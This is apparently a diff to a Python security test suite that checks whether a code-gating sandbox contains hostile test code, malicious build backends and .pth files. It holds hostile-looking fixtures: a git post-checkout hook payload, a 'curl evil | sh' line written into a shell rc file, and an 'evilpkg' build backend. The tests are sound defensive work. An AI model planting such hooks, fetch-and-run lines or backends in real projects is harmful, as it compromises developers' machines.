@@ -11,13 +11,13 @@ from pathlib import Path
 
 import pytest
 
-from darkfactory.blobs import BlobStore
 from darkfactory.gates import GateContext, run_gates
 from darkfactory.gates.baseline import measure_base
 from darkfactory.target_env import TargetEnvError, ensure_target_env
 from darkfactory.workspace import GitRun, changed_paths, diff_text, ensure_worktree
-from tests.conftest import git, make_repo
+from tests.conftest import backend_pyproject, git, make_repo
 from tests.security.conftest import Host
+from tests.security.demo_repos import hostile_base, hostile_change
 
 pytestmark = pytest.mark.family("C")
 
@@ -46,26 +46,6 @@ def actions(host: Host) -> dict[str, str]:
         "other-repo": f"open({str(host.root / 'other-repo' / 'main.py')!r}).read()",
         "git-hook": "pathlib.Path('.git/hooks/post-checkout').write_text('#!/bin/sh\\ntouch /tmp/pwned-hook\\n')",
     }
-
-
-def hostile_base(tmp_path: Path, files: dict[str, str]) -> GateContext:
-    repo = make_repo(tmp_path / "repo")
-    for path, text in files.items():
-        (repo / path).parent.mkdir(parents=True, exist_ok=True)
-        (repo / path).write_text(text)
-    git(repo, "add", "-A")
-    git(repo, "commit", "-q", "-m", "hostile")
-    sha = git(repo, "rev-parse", "HEAD")
-    worktree = ensure_worktree(str(repo), tmp_path / "wt", sha)
-    return GateContext(
-        worktree=worktree,
-        sha=sha,
-        changed=[],
-        env=ensure_target_env(worktree, tmp_path.parent / "envs"),
-        blobs=BlobStore(tmp_path / "blobs"),
-        repo_path=str(repo),
-        base_sha=sha,
-    )
 
 
 def measured(ctx: GateContext, tmp_path: Path) -> str:
@@ -132,35 +112,11 @@ def test_a_report_swapped_for_a_symlink_is_not_followed(tmp_path: Path, host: Ho
     host.assert_untouched(text)
 
 
-def change_ctx(tmp_path: Path, files: dict[str, str]) -> GateContext:
-    repo = make_repo(tmp_path / "repo")
-    base_sha = git(repo, "rev-parse", "HEAD")
-    for path, text in files.items():
-        (repo / path).parent.mkdir(parents=True, exist_ok=True)
-        (repo / path).write_text(text)
-    git(repo, "add", "-A")
-    git(repo, "commit", "-q", "-m", "change")
-    sha = git(repo, "rev-parse", "HEAD")
-    worktree = ensure_worktree(str(repo), tmp_path / "wt", sha)
-    return GateContext(
-        worktree=worktree,
-        sha=sha,
-        changed=changed_paths(str(repo), base_sha, sha),
-        env=ensure_target_env(worktree, tmp_path.parent / "envs"),
-        blobs=BlobStore(tmp_path / "blobs"),
-        gates=("tests",),
-        repo_path=str(repo),
-        base_sha=base_sha,
-        base_worktree=ensure_worktree(str(repo), tmp_path / "wt-base", base_sha),
-        task_type="test",
-    )
-
-
 @pytest.mark.parametrize("name", ["worker-environ", "loopback", "write-host", "git-hook"])
 def test_a_hostile_test_in_the_change(name: str, tmp_path: Path, host: Host) -> None:
     body = attempt(actions(host)[name]) + "assert False, 'OUTCOME ' + outcome\n"
     source = "def test_hostile():\n" + textwrap.indent(body, "    ")
-    ctx = change_ctx(tmp_path, {"tests/test_hostile.py": source})
+    ctx = hostile_change(tmp_path, {"tests/test_hostile.py": source})
     report = run_gates(ctx)
     (result,) = report.results
     text = result.summary + result.feedback
@@ -177,7 +133,7 @@ def test_home_writes_by_tested_code_stay_in_the_sandbox(tmp_path: Path, host: Ho
         "        rc.write('curl evil | sh\\n')\n"
         "    assert False, 'OUTCOME home=' + os.path.expanduser('~')\n"
     )
-    ctx = change_ctx(tmp_path, {"tests/test_home.py": source})
+    ctx = hostile_change(tmp_path, {"tests/test_home.py": source})
     (result,) = run_gates(ctx).results
     assert "OUTCOME home=/tmp/home" in result.feedback, result.feedback
     assert (bashrc.read_bytes() if bashrc.exists() else None) == before
@@ -196,10 +152,7 @@ def test_a_build_backend_in_a_changed_requirement(name: str, tmp_path: Path, hos
     repo = tmp_path / "repo"
     (repo / "evilpkg").mkdir(parents=True)
     (repo / "requirements.txt").write_text("./evilpkg\n")
-    (repo / "evilpkg" / "pyproject.toml").write_text(
-        '[project]\nname = "evilpkg"\nversion = "1"\n'
-        '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'
-    )
+    (repo / "evilpkg" / "pyproject.toml").write_text(backend_pyproject("evilpkg", "evil_backend"))
     (repo / "evilpkg" / "evil_backend.py").write_text(EVIL_BACKEND.format(attempt=attempt(actions(host)[name])))
     with pytest.raises(TargetEnvError) as failure:
         ensure_target_env(repo, tmp_path / "envs")
@@ -256,10 +209,7 @@ def test_a_pth_file_from_a_requirement_runs_only_inside_the_sandbox(tmp_path: Pa
     (repo / "pthpkg").mkdir(parents=True)
     (repo / "requirements.txt").write_text("./pthpkg\n")
     backend = PTH_BACKEND.replace("MARKER", repr(str(marker)))
-    (repo / "pthpkg" / "pyproject.toml").write_text(
-        '[project]\nname = "pthpkg"\nversion = "1"\n'
-        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
-    )
+    (repo / "pthpkg" / "pyproject.toml").write_text(backend_pyproject("pthpkg", "backend"))
     (repo / "pthpkg" / "backend.py").write_text(backend)
     env = ensure_target_env(repo, tmp_path / "envs")
     assert (env.root / "lib").exists()
